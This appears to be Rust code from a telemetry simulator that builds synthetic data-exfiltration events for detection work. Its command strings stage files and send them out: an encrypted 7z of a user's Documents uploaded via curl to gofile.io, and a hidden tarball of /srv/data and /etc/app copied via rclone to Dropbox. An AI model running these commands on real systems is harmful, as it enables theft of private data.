//! Staging then upload: an archive built in C:\Users\Public or /tmp, then
//! uploaded at about its size.

use super::{home, meta, pick_host, shell, tool, work_time, Meta, Window, MB};
use crate::activity::Http;
use crate::clock::{MIN, SEC};
use crate::scene::Scene;
use crate::world::Os;

pub fn windows(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Windows, &[])?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let home = home(sc, h);
    let name = format!("{}.7z", sc.rng.pick(&["fin", "data", "q4"]));
    let staged = format!("C:\\Users\\Public\\{name}");
    let sh = shell(sc, h, t, false);
    let pw = sc.rng.base62(10);
    let zip = tool(
        sc,
        h,
        t + 10 * SEC,
        &sh,
        "C:\\Program Files\\7-Zip\\7z.exe",
        &format!("7z.exe a -t7z -mhe=on -p{pw} {staged} {home}\\Documents\\*"),
        Some("7z.exe"),
    );
    sc.file(t + 40 * SEC, &zip, &staged);
    let size = sc.rng.range(100, 900) * MB;
    let t2 = t + sc.rng.range(5, 40) as i64 * MIN;
    let curl = tool(
        sc,
        h,
        t2,
        &sh,
        "C:\\Windows\\System32\\curl.exe",
        &format!("curl.exe -F \"file=@{staged}\" https://store1.gofile.io/contents/uploadfile"),
        Some("curl.exe"),
    );
    let http = Http {
        method: "POST",
        path: "/contents/uploadfile".into(),
        user_agent: "curl/8.9.1".into(),
        content_type: "multipart/form-data",
        upload_name: Some(name.clone()),
    };
    let sent = sc.rng.vary(size, 0.02);
    sc.upload(
        t2 + SEC,
        h,
        &curl,
        "store1.gofile.io",
        sent,
        1,
        0,
        Some(http),
        443,
    );
    Some(meta(
        sc,
        h,
        format!(
            "7-Zip stages {staged} ({} MB), curl uploads it to gofile.io",
            size / MB
        ),
        "T1567.002",
        "7-zip+curl",
        "staging",
        "store1.gofile.io",
        "Gofile",
    ))
}

pub fn linux(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Linux, &[])?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let name = format!("/tmp/.cache-{}.tgz", sc.rng.hex(6));
    let sh = shell(sc, h, t, false);
    tool(
        sc,
        h,
        t + 5 * SEC,
        &sh,
        "/usr/bin/tar",
        &format!("tar czf {name} /srv/data /etc/app"),
        None,
    );
    let size = sc.rng.range(200, 1500) * MB;
    let t2 = t + sc.rng.range(3, 30) as i64 * MIN;
    let p = tool(
        sc,
        h,
        t2,
        &sh,
        "/usr/local/bin/rclone",
        &format!("rclone copy {name} dbx:/sync -q"),
        None,
    );
    let parts = sc.rng.range(3, 8);
    sc.upload(
        t2 + SEC,
        h,
        &p,
        "content.dropboxapi.com",
        size,
        parts,
        SEC,
        None,
        443,
    );
    Some(meta(
        sc,
        h,
        format!(
            "tar stages {name} ({} MB), rclone uploads it to Dropbox",
            size / MB
        ),
        "T1567.002",
        "tar+rclone",
        "staging",
        "content.dropboxapi.com",
        "Dropbox",
    ))
}
